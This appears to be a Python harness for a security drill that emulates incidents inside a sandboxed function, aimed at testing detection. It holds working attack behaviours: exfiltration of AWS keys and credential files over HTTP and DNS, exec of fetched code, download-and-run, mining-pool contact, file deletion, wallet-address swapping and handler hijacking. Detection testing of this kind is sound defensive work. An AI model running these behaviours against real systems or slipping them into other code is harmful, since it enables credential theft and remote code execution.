"""The behaviours of incidents in Python, which `shielded-function drill` puts beside a function's code.

It is harmless: it takes only secrets that the drill made up, it runs nothing but `echo`, and it is started only in a
sandbox whose network is its own loopback. Each behaviour's beginning and end is a line in the log.
"""

from __future__ import annotations

import base64
import http.client
import io
import json
import os
import socket
import ssl
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
PLAN: dict[str, Any] = json.loads((HERE / "plan.json").read_text()) if (HERE / "plan.json").exists() else {}
SECONDS = 4.0
MINE, THEIRS = "0x" + "1" * 40, "0x" + "2" * 40


def say(**line: Any) -> None:
    os.write(2, (json.dumps({"shielded_drill": PLAN["nonce"], **line}) + "\n").encode())


def secret(take: str) -> str:
    if take == "env":
        return os.environ["AWS_SECRET_ACCESS_KEY"]
    found = [path for path in Path(PLAN["secrets"]).rglob("*") if path.is_file()]
    return "\n".join(path.read_text() for path in found if take == "files" or path.name == ".npmrc")


def tls() -> ssl.SSLContext:
    """Without certificates: the emulated receivers have none."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    context.set_ciphers("aNULL:@SECLEVEL=0")
    return context


def request(step: dict[str, Any], path: str = "/", body: str = "", headers: dict[str, str] | None = None) -> bytes:
    port = step.get("port", 443)
    connection = (
        http.client.HTTPSConnection(step["host"], port, timeout=SECONDS, context=tls())
        if port == 443
        else http.client.HTTPConnection(step["host"], port, timeout=SECONDS)
    )
    connection.request("POST" if body else "GET", path, body or None, headers or {})
    return connection.getresponse().read()


def send(step: dict[str, Any]) -> None:
    taken = base64.b64encode(secret(step["take"]).encode()).decode()
    if step.get("way") == "query":
        request(step, f"/?{taken}")
    elif step.get("way") == "header":
        request(step, headers={"Referer": f"http://1.a/{taken}"})
    else:
        request(step, body=taken)


def resolve(step: dict[str, Any]) -> None:
    socket.getaddrinfo(f"{secret(step['take']).strip()[-30:].encode().hex()}.{step['host']}", 80)


def ask(step: dict[str, Any]) -> None:
    request(step)


def aws(step: dict[str, Any]) -> None:
    key = os.environ["AWS_ACCESS_KEY_ID"]
    request(step, body="Action=GetCallerIdentity", headers={"Authorization": f"AWS4-HMAC-SHA256 Credential={key}/"})


def mine(step: dict[str, Any]) -> None:
    opened = socket.create_connection((step["host"], step["port"]), SECONDS)
    with tls().wrap_socket(opened, server_hostname=step["host"]) if step["port"] == 443 else opened as pool:
        pool.sendall(b'{"method":"login"}\n')
        pool.recv(100)


def evaluate(step: dict[str, Any]) -> None:
    exec(request(step).decode())


def start(step: dict[str, Any], *command: str) -> None:
    subprocess.run([*command, PLAN["nonce"], str(step["step"])], check=True, timeout=SECONDS)


def download(step: dict[str, Any]) -> None:
    program = Path(step["path"])
    program.write_bytes(request(step))
    program.chmod(0o755)
    start(step, str(program))


def run(step: dict[str, Any]) -> None:
    start(step, str(HERE / "program"))


def shell(step: dict[str, Any]) -> None:
    start(step, "/bin/sh", "-c", (HERE / "program").read_text(), "sh")


def overwrite(step: dict[str, Any]) -> None:
    Path(step["path"]).write_text("overwritten")


def delete(step: dict[str, Any]) -> None:
    Path(step["path"]).unlink()


def alter(step: dict[str, Any]) -> None:
    """Hooks the language's HTTP client for one call, whose data are in its URL."""
    original = urllib.request.urlopen

    def hooked(*arguments: Any) -> Any:
        return io.BytesIO(original(*arguments).read().replace(MINE.encode(), THEIRS.encode()))

    urllib.request.urlopen = hooked
    try:
        if urllib.request.urlopen(f"data:text/plain,{MINE}").read() == THEIRS.encode():
            say(ran=step["step"])
    finally:
        urllib.request.urlopen = original


def answer(step: dict[str, Any]) -> None:
    """Replaces the handler by one that adds the secret to its result."""
    name, _, function = os.environ["_HANDLER"].rpartition(".")
    module = sys.modules[name.replace("/", ".")]
    original = getattr(module, function)

    def handler(*arguments: Any) -> Any:
        try:
            answered = original(*arguments)
        except Exception:
            answered = None
        return {"answer": answered, "more": secret(step["take"])}

    setattr(module, function, handler)


DOES: dict[str, Callable[[dict[str, Any]], None]] = {
    "send": send,
    "resolve": resolve,
    "ask": ask,
    "aws": aws,
    "mine": mine,
    "evaluate": evaluate,
    "download": download,
    "run": run,
    "shell": shell,
    "overwrite": overwrite,
    "delete": delete,
    "alter": alter,
    "answer": answer,
}


def play() -> None:
    """Runs each behaviour in order, also after one that fails."""
    for step in PLAN.get("steps", ()):
        say(begin=step["step"])
        try:
            DOES[step["do"]](step)
            say(end=step["step"])
        except Exception as error:
            say(end=step["step"], error=f"{type(error).__name__}: {error}")
    if PLAN:
        say(finished=True)


play()
